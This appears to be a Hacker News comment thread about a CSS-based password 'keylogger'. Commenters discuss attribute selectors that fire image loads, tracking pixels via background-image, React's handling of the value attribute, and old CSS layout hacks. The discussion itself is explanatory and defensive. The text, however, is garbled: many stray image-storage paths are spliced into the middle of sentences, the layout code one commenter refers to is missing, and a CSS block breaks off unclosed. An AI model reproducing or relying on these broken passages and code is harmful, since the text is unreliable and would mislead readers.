(Truth to tell, advertisers had their fangs on even the barest 'social media' thing like Usenet, where "spam" not in a tin canwas first defined.)

Reminds me of meltdown. Pretty neat.

CSS has gone too far. At least when I'm worried about a nasty javascript attack from a site I can be somewhat reassured that noscript/umatrix will work. Am I going to have to start whitelisting CSS now too? Am I too late?

You are. CSS has gone "too far" the second it allowed linking to images.

I can simply background-image:url("myTrackingPixel.png") and then track whenever someone tries to load that image from my server.It drives me crazy when I see someone has implemented Doom in CSS, but it still requires black magic to do a simple responsive three column layout without using bleeding edge features that aren't widely supported yet.

Browser support (not using Flexbox because of IE) is not that hard once you get your head around it:



Falls apart entirely on phones (tiny columns of one word wide each, AND horizontal scrolling), so you only proved OP's point...

In fairness, that was written in 2006 when people browsing the internet on their dumbphones generally got served entirely different web pages. And you could fix it with media queries. But the fact that it needed hacky stuff like arbitrarily large positive padding and negative margin values to achieve a "holy grail" of the standard way websites had been laid out using tables for the previous decade or so didn't reflect very well on CSS spec drafters or the browser vendors of the time.

To be honest, nothing everstopped anyone from using display:table;, display:table-row; and display:table-cell;

This probably is the most robust solution now, but IE6 mattered then, and it didn't even work in the shiny new IE7

Well, of course. That's simply a three column layout example without any responsive media queries. It's the bare minimum to a three column "holy grail". If anything, you could simply add the viewport meta tag to have the user's phone zoom in automatically.

However, making this example responsive is a piece of cake:

@media only screen and (max-width: 1024px) {

    * {
        float: none !important;
        width: 100% !important;
        margin: 0 !important;
        padding: 0 !important;
        position: relative !important;
        right: auto !important;
        left: auto !important;

(Terrible CSS simply to show how easy it is to make it responsive. Normally you wouldn't wildcard important everything but target the right classes. I can't be bothered, this gets the point across.)

This isn't a CSS feature, CSS does not let you select on the value of a password field (it lets you select on the value of the `value` attribute, which doesn't change when you type)

This is a React feature, where React apps specifically use the value attribute (`element.setAttribute("value", ...)`) to set the value, instead of `element.value`.

Or if that attribute was populated via props from it's parent, which is a morecommon implementation.

As other comments have stated, this only works if the 'value' attr is being set on the input box as you type (which React will do), so it still requires JS.

There are a lot of sites where you wouldn't need to inject the JS code for react though.

ALWAYS browse with devtools open, and pay close attention to every packet that's being sent out (especially when you're not expecting any to...)

This isn't practical at all. Many websites performhundreds of requests.

Not while I'm sitting around not doing anything, at least not normally. Gmail refreshes itself every few seconds, but I'd be awfully suspicious if I started seeing a single packet being transmitted each time I typed a character into a password box.

I can’t tell my parents to do that though.

That's not enough if you are using an online crypto wallet. You also need to check if the seeding isdeterministic. And also itcould send the data 'later' when you next visit the site rather than now, storing it in indexeddb/localstorage/ etc. So you have a falsesense of security.

Also as in this example loading a .jpg could be a way of communicating something.

Guidelines | FAQ | Lists | API |Security | Legal | Apply to YC | Contact